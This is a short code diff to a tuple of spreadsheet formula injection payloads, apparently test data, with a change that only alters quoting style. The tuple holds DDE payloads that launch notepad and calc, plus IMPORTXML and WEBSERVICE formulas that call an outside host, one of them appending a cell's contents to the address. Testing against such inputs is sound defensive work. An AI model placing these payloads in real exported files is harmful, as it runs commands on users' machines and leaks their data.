@@ -10,7 +10,7 @@ PAYLOADS: tuple[str, ...] = (
     "=cmd|'/C notepad'!'A1'",
     "@SUM(1+9)*cmd|' /C calc'!A0",
     '=IMPORTXML(CONCAT("http://example.org/",A1),"//a")',
-    "=WEBSERVICE(\"http://example.org\")",
+    '=WEBSERVICE("http://example.org")',
     "{=SUM(1)}",
     "'=1+1",
     '"=1+1"',
